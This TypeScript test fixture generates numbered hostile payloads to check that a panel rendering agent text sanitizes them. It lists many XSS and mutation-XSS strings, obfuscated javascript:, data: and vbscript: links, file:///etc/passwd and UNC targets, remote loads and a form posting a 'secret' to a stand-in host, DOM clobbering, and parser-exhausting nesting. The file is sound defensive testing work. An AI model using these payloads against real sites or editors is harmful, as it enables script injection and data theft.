/**
 * Hostile agent text for the panel. Each payload is built around its own number: what it tries to
 * run pushes that number onto `window.__pwned`, and what it tries to load names the number in its
 * URL, so a payload that gets through is named by what it did.
 */

export interface HostilePayload {
  id: number;
  name: string;
  text: string;
  /** Literal text the panel must show (raw HTML inside code stays text). */
  shownAs?: string;
}

/** Where a payload's remote loads would go: the panel harness refuses every origin but its own. */
export const REMOTE_HOST = 'stress-remote.invalid';

interface Vars {
  /** Script that records the payload ran: no spaces or quotes, so it fits any attribute. */
  act: string;
  /** A remote URL only this payload names. */
  remote: string;
}

type Template = [name: string, build: (vars: Vars) => string, shownAs?: (vars: Vars) => string];

const entities = (text: string, hex: boolean) => [...text].map((char) => hex ? `&#x${char.codePointAt(0)?.toString(16)};` : `&#${char.codePointAt(0)};`).join('');

/** Link targets that must never run, load or open anything outside the allowed kinds. */
const TARGETS: [name: string, target: (vars: Vars) => string][] = [
  ['javascript:', ({ act }) => `javascript:${act}`],
  ['mixed-case javascript:', ({ act }) => `JaVaScRiPt:${act}`],
  ['tab inside javascript:', ({ act }) => `java\tscript:${act}`],
  ['entity tab inside javascript:', ({ act }) => `java&#x09;script:${act}`],
  ['decimal entities', ({ act }) => `${entities('javascript', false)}:${act}`],
  ['hex entities', ({ act }) => `${entities('javascript:', true)}${act}`],
  ['&colon;', ({ act }) => `javascript&colon;${act}`],
  ['percent-encoded j', ({ act }) => `%6Aavascript:${act}`],
  ['control character first', ({ act }) => `\u0001javascript:${act}`],
  ['vbscript:', ({ act }) => `vbscript:${act}`],
  ['data:text/html', ({ act }) => `data:text/html,<script>${act}</script>`],
  ['data:text/html;base64', ({ act }) => `data:text/html;base64,${Buffer.from(`<script>${act}</script>`).toString('base64')}`],
  ['data:image/svg+xml', ({ act }) => `data:image/svg+xml,<svg onload=${act}>`],
  ['command: URI', () => 'command:workbench.action.terminal.new'],
  ['vscode: URI', () => 'vscode:extension/stress.evil'],
  ['file:///etc/passwd', () => 'file:///etc/passwd'],
  ['file:// on another host', ({ remote }) => `file://${new URL(remote).host}/share/x`],
  ['//host/share', ({ remote }) => `//${new URL(remote).host}/share`],
  ['backslash UNC', ({ remote }) => `\\\\${new URL(remote).host}\\share`],
  ['../ out of the workspace', () => '../../../../../etc/passwd'],
  ['absolute path outside', () => '/etc/passwd'],
  ['remote web page', ({ remote }) => remote],
];

/** The markdown and HTML ways of making a link or image from a target. */
const SYNTAXES: [name: string, wrap: (target: string) => string][] = [
  ['link', (target) => `[click](${target})`],
  ['angle-bracket link', (target) => `[click](<${target}>)`],
  ['image', (target) => `![pic](${target})`],
  ['reference link', (target) => `[click][ref]\n\n[ref]: ${target}`],
  ['autolink', (target) => `<${target}>`],
  ['raw <a href>', (target) => `<a href="${target}">click</a>`],
];

const HANDCRAFTED: Template[] = [
  ['script tag', ({ act }) => `<script>${act}</script>`],
  ['script src', ({ remote }) => `<script src="${remote}"></script>`],
  ['split script tag', ({ act }) => `<scr<script>ipt>${act}</scr</script>ipt>`],
  ['script with slash', ({ act }) => `<script/x>${act}</script>`],
  ['unclosed script', ({ act }) => `<<script>${act}//<</script>`],
  ['img onerror', ({ act }) => `<img src=x onerror=${act}>`],
  ['img onerror mixed case', ({ act }) => `<IMG SRC=x OnErRoR=${act}>`],
  ['img with slashes', ({ act }) => `<img/src=x/onerror=${act}>`],
  ['img remote src', ({ remote }) => `<img src="${remote}">`],
  ['img srcset', ({ remote }) => `<img srcset="${remote} 1x, ${remote}/2 2x">`],
  ['picture source srcset', ({ remote }) => `<picture><source srcset="${remote}"><img src=x></picture>`],
  ['img srcset and onerror', ({ act, remote }) => `<img src=x srcset="${remote} 2x" onerror=${act}>`],
  ['svg onload', ({ act }) => `<svg onload=${act}></svg>`],
  ['svg script', ({ act }) => `<svg><script>${act}</script></svg>`],
  ['svg xlink:href', ({ act }) => `<svg><a xlink:href="javascript:${act}"><text x=0 y=20>click</text></a></svg>`],
  ['svg animate onbegin', ({ act }) => `<svg><animate onbegin=${act} attributeName=x dur=1s></svg>`],
  ['svg set attribute', ({ act }) => `<svg><a><set attributeName=href to=javascript:${act} /><text y=20>click</text></a></svg>`],
  ['svg foreignObject', ({ act }) => `<svg><foreignObject><img src=x onerror=${act}></foreignObject></svg>`],
  ['svg use remote', ({ remote }) => `<svg><use href="${remote}#x"></use></svg>`],
  ['math xlink:href', ({ act }) => `<math><a xlink:href="javascript:${act}">click</a></math>`],
  ['math mglyph style mXSS', ({ act }) => `<math><mtext><table><mglyph><style><img src=x onerror=${act}></style></mglyph></table></mtext></math>`],
  ['svg p style mXSS', ({ act }) => `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`],
  ['form math mXSS', ({ act }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`],
  ['noscript mXSS', ({ act }) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`],
  ['template script', ({ act }) => `<template><script>${act}</script><img src=x onerror=${act}></template>`],
  ['select template mXSS', ({ act }) => `<select><template><img src=x onerror=${act}></template></select>`],
  ['noembed mXSS', ({ act }) => `<noembed><img title="</noembed><img src=x onerror=${act}>"></noembed>`],
  ['xmp mXSS', ({ act }) => `<xmp><img title="</xmp><img src=x onerror=${act}>">`],
  ['textarea mXSS', ({ act }) => `<textarea><img title="</textarea><img src=x onerror=${act}>">`],
  ['title mXSS', ({ act }) => `<title><img title="</title><img src=x onerror=${act}>">`],
  ['iframe content mXSS', ({ act }) => `<iframe><img title="</iframe><img src=x onerror=${act}>"></iframe>`],
  ['style content mXSS', ({ act }) => `<style><img title="</style><img src=x onerror=${act}>">`],
  ['comment breakout', ({ act }) => `<!--><img src=x onerror=${act}>-->`],
  ['cdata breakout', ({ act }) => `<![CDATA[><img src=x onerror=${act}>]]>`],
  ['iframe remote', ({ remote }) => `<iframe src="${remote}"></iframe>`],
  ['iframe javascript:', ({ act }) => `<iframe src="javascript:${act}"></iframe>`],
  ['iframe srcdoc', ({ act }) => `<iframe srcdoc="<script>${act}</script>"></iframe>`],
  ['object data', ({ remote }) => `<object data="${remote}"></object>`],
  ['object data: html', ({ act }) => `<object data="data:text/html,<script>${act}</script>"></object>`],
  ['embed', ({ remote }) => `<embed src="${remote}">`],
  ['style @import', ({ remote }) => `<style>@import url(${remote});</style>`],
  ['style url()', ({ remote }) => `<style>body{background:url(${remote})}</style>`],
  ['style attribute url()', ({ remote }) => `<div style="background-image:url(${remote})">styled</div>`],
  ['style hides the panel', () => '<style>body{display:none!important}</style><div style="position:fixed;inset:0;background:red">cover</div>'],
  ['link stylesheet', ({ remote }) => `<link rel=stylesheet href="${remote}">`],
  ['link preload', ({ remote }) => `<link rel=preload as=image href="${remote}">`],
  ['link prefetch', ({ remote }) => `<link rel=prefetch href="${remote}">`],
  ['meta refresh remote', ({ remote }) => `<meta http-equiv=refresh content="0;url=${remote}">`],
  ['meta refresh javascript:', ({ act }) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`],
  ['meta CSP', () => '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">'],
  ['base href', ({ remote }) => `<base href="${remote}/"><a href="x">relative</a> [md relative](page)`],
  ['form action', ({ remote }) => `<form action="${remote}"><input name=q value=secret><button>go</button></form>`],
  ['form javascript: action', ({ act }) => `<form action="javascript:${act}"><button>go</button></form>`],
  ['button formaction', ({ act }) => `<form><button formaction="javascript:${act}">go</button></form>`],
  ['input type=image', ({ remote }) => `<input type=image src="${remote}">`],
  ['input autofocus onfocus', ({ act }) => `<input autofocus onfocus=${act}>`],
  ['details ontoggle', ({ act }) => `<details open ontoggle=${act}><summary>x</summary></details>`],
  ['video onerror', ({ act }) => `<video src=x onerror=${act}></video><audio src=x onerror=${act}></audio>`],
  ['video poster', ({ remote }) => `<video poster="${remote}"></video>`],
  ['body onload', ({ act }) => `<body onload=${act}>`],
  ['marquee onstart', ({ act }) => `<marquee onstart=${act}>x</marquee>`],
  ['a onclick', ({ act }) => `<a href="#" onclick=${act}>click</a>`],
  ['a ping', ({ remote }) => `<a href="https://ok.example/" ping="${remote}">click</a>`],
  ['a target _blank', ({ remote }) => `<a href="${remote}" target=_blank rel=opener>click</a>`],
  ['area href', ({ act }) => `<map name=m><area shape=rect coords=0,0,50,50 href="javascript:${act}"></map><img usemap=#m src=x>`],
  ['custom element onclick', ({ act }) => `<x-y onclick=${act} tabindex=0>click</x-y>`],
  ['img src eval', ({ act }) => `<img src=x:${act} onerror=eval(src)>`],
  ['DOM clobbering', () => '<img name=acquireVsCodeApi><form name=__pwned><input name=x></form><a id=__pwned href=x>x</a>'],
  ['linked image with a script target', ({ act, remote }) => `[![pic](${remote})](javascript:${act})`],
  ['link title breakout', ({ act }) => `[click](https://ok.example/ "x\\" onmouseover=${act} x=\\"")`],
  ['link text HTML', ({ act }) => `[<img src=x onerror=${act}>](https://ok.example/)`],
  ['bare javascript: linkified', ({ act }) => `see javascript:${act} now`],
  ['www linkified', ({ remote }) => `visit www.${new URL(remote).host}/path now`],
  ['NUL inside a tag', ({ act }) => `<scr\u0000ipt>${act}</scr\u0000ipt><img src=x onerror\u0000=${act}>`],
  ['right-to-left override', ({ remote }) => `[https://ok.example/\u202Egnp.exe](${remote})`],
  ['html fence', ({ act }) => `\`\`\`html\n<script>${act}</script>\n\`\`\``, ({ act }) => `<script>${act}</script>`],
  ['svg fence', ({ act }) => `\`\`\`svg\n<svg onload=${act}></svg>\n\`\`\``, ({ act }) => `<svg onload=${act}></svg>`],
  ['tilde fence', ({ act }) => `~~~\n<img src=x onerror=${act}>\n~~~`, ({ act }) => `<img src=x onerror=${act}>`],
  ['fence info string breakout', ({ act }) => `\`\`\`"><img src=x onerror=${act}>\ncode\n\`\`\``, () => 'code'],
  ['indented code', ({ act }) => `text\n\n    <script>${act}</script>\n`, ({ act }) => `<script>${act}</script>`],
  ['inline code', ({ act }) => `use \`<img src=x onerror=${act}>\` here`, ({ act }) => `<img src=x onerror=${act}>`],
  ['unterminated fence', ({ act }) => `\`\`\`js\n<script>${act}</script>`, ({ act }) => `<script>${act}</script>`],
  ['deeply nested list', () => Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth}`).join('\n')],
  ['one-line nested list', () => `${'- '.repeat(5_000)}deep`],
  ['nested ordered list', () => `${'1. '.repeat(3_000)}deep`],
  ['nested quotes', () => `${'> '.repeat(5_000)}deep`],
  ['nested emphasis', () => `${'*'.repeat(20_000)}x${'*'.repeat(20_000)}`],
  ['nested brackets', () => `${'['.repeat(10_000)}a${']'.repeat(10_000)}`],
  ['many tags', ({ act }) => `${'<b>'.repeat(10_000)}<img src=x onerror=${act}>`],
];

/** Every payload, numbered from 1: the handcrafted ones, then every target in every link syntax. */
export function hostilePayloads(): HostilePayload[] {
  const templates: Template[] = [
    ...HANDCRAFTED,
    ...TARGETS.flatMap(([targetName, target]) => SYNTAXES.map(([syntaxName, wrap]): Template => [`${syntaxName} to ${targetName}`, (vars) => wrap(target(vars))])),
  ];
  return templates.map(([name, build, shownAs], index) => {
    const id = index + 1;
    const vars: Vars = { act: `(window.__pwned=window.__pwned||[]).push(${id})`, remote: `https://${REMOTE_HOST}/p${id}` };
    return { id, name, text: build(vars), ...(shownAs ? { shownAs: shownAs(vars) } : {}) };
  });
}
